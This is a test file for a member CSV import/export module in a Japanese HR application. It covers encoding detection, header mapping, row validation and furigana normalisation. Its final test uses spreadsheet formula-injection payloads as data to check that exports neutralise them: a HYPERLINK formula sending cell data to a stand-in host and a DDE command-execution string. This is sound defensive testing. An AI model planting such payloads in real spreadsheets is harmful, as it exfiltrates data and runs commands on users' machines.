import iconv from 'iconv-lite';
import { UNSTORABLE_TEXT_MESSAGE } from '../../../platform/domain/storable-text.js';
import { checkMemberRows, decodeCsv, memberCsv, parseMemberCsv } from './member-csv.js';

const japanese = '姓,名,メールアドレス,役職,部署,入社日\n佐藤,花子,hanako@example.com,課長,開発部,2026/4/1\n';

describe('member CSV', () => {
  it('reads UTF-8 with and without BOM, and Shift_JIS', () => {
    expect(decodeCsv(Buffer.from(japanese, 'utf8'))).toEqual({ text: japanese, encoding: 'utf-8' });
    expect(decodeCsv(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(japanese, 'utf8')]))).toEqual({
      text: japanese,
      encoding: 'utf-8',
    });
    expect(decodeCsv(iconv.encode(japanese, 'Shift_JIS'))).toEqual({ text: japanese, encoding: 'shift_jis' });
  });

  it('maps Japanese or English headers and numbers rows as a spreadsheet does', () => {
    const [row] = parseMemberCsv('lastName,firstName,email\n佐藤,花子,h@example.com\n');
    expect(row).toEqual({ rowNumber: 2, record: expect.objectContaining({ lastName: '佐藤', firstName: '花子', email: 'h@example.com', position: '' }) });
  });

  it.each([
    ['', 'file'],
    ['名前,メール\nA,B\n', '「姓」と「名」'],
    ['姓,名\n', 'データ行'],
    [`姓,名\n${'a,b\n'.repeat(2001)}`, '2000行'],
  ])('refuses the whole file %#', (text, message) => {
    expect(() => parseMemberCsv(text)).toThrow(message);
  });

  it('reports every problem of a row', () => {
    const rows = parseMemberCsv(
      '姓,名,メールアドレス,役職,部署,入社日\n' +
        '佐藤,花子,hanako@example.com,課長,開発部,2026/4/1\n' +
        ',太郎,bad-address,社長,,\n' +
        '鈴木,一郎,HANAKO@example.com,,ＤＥＶ,\n' +
        '田中,次郎,taken@example.com,,,2026-13-01\n',
    );
    const checked = checkMemberRows(rows, {
      positions: [{ id: 'pos-1', name: '課長' }],
      departments: [{ id: 'dept-1', name: '開発部' }, { id: 'dept-2', name: 'dev' }],
      registeredEmails: ['Taken@Example.com'],
    });
    expect(checked[0]).toMatchObject({ positionId: 'pos-1', departmentId: 'dept-1', hireDate: '2026-04-01', errors: [] });
    expect(checked[1].errors).toEqual(['姓を入力してください', '有効なメールアドレスを入力してください', '役職「社長」が見つかりません']);
    expect(checked[2]).toMatchObject({ departmentId: 'dept-2', errors: ['メールアドレスがファイル内の2行目と重複しています'] });
    expect(checked[3].errors).toEqual([expect.stringContaining('重複'), '入社日はYYYY-MM-DD形式の日付で入力してください']);
  });

  it('reads the フリガナ column as kaonavi writes it, folding hiragana and half-width kana to katakana, and refuses other scripts', () => {
    const rows = parseMemberCsv('姓,名,フリガナ\n佐藤,花子,さとう　はなこ\n鈴木,一郎,ｽｽﾞｷ ｲﾁﾛｰ\n田中,次郎,\n山田,太郎,山田 タロウ\n');
    const checked = checkMemberRows(rows, { positions: [], departments: [], registeredEmails: [] });
    expect(checked.map((row) => row.furigana)).toEqual(['サトウ ハナコ', 'スズキ イチロー', null, '山田 タロウ']);
    expect(checked.map((row) => row.errors)).toEqual([[], [], [], ['フリガナはカタカナで入力してください']]);
    expect(parseMemberCsv('lastName,firstName,furigana\n佐藤,花子,サトウ ハナコ\n')[0].record.furigana).toBe('サトウ ハナコ');
  });

  it('refuses a row with a NUL in any cell, naming the column, and keeps the other rows', () => {
    const rows = parseMemberCsv('姓,名,備考\n佐藤,花子,メモ\n田\u0000中,次郎,a\u0000b\n');
    const [good, bad] = checkMemberRows(rows, { positions: [], departments: [], registeredEmails: [] });
    expect(good.errors).toEqual([]);
    expect(bad.errors).toEqual([`姓: ${UNSTORABLE_TEXT_MESSAGE}`, `備考: ${UNSTORABLE_TEXT_MESSAGE}`]);
  });

  it('exports UTF-8 with BOM and the Japanese header', () => {
    const csv = memberCsv([
      { lastName: '佐藤', firstName: '花子', furigana: 'サトウ ハナコ', email: null, position: '課長', department: null, phoneNumber: null, hireDate: '2026-04-01', notes: 'a,b' },
    ]);
    expect(csv.startsWith('\uFEFF姓,名,フリガナ,メールアドレス,役職,部署,電話番号,入社日,備考\r\n')).toBe(true);
    expect(csv).toContain('佐藤,花子,サトウ ハナコ,,課長,,,2026-04-01,"a,b"');
  });

  it('exports no cell that a spreadsheet would run as a formula, and imports its own export back unchanged', () => {
    const member = {
      lastName: '=HYPERLINK("https://evil.example/?d="&A2,"詳細")',
      firstName: '@SUM(1+1)',
      furigana: 'サトウ ハナコ',
      email: 'x@example.com',
      position: null,
      department: '-営業',
      phoneNumber: '+81-90-1234-5678',
      hireDate: '2026-04-01',
      notes: '1行目\n=cmd|\' /C calc\'!A0',
    };
    const csv = memberCsv([member]);
    const cells = parseMemberCsv(csv.slice(1))[0].record;
    const raw = csv.slice(1).split('\r\n')[1];
    expect(raw.startsWith(`"'=HYPERLINK(`)).toBe(true);
    expect(raw).toContain(",'@SUM(1+1),");
    expect(raw).toContain(",'-営業,'+81-90-1234-5678,");
    // The line break is inside a quoted cell: the next line is no cell of its own.
    expect(raw).toContain('"1行目\n=cmd');
    expect(cells).toEqual({ ...member, position: '' });
  });
});
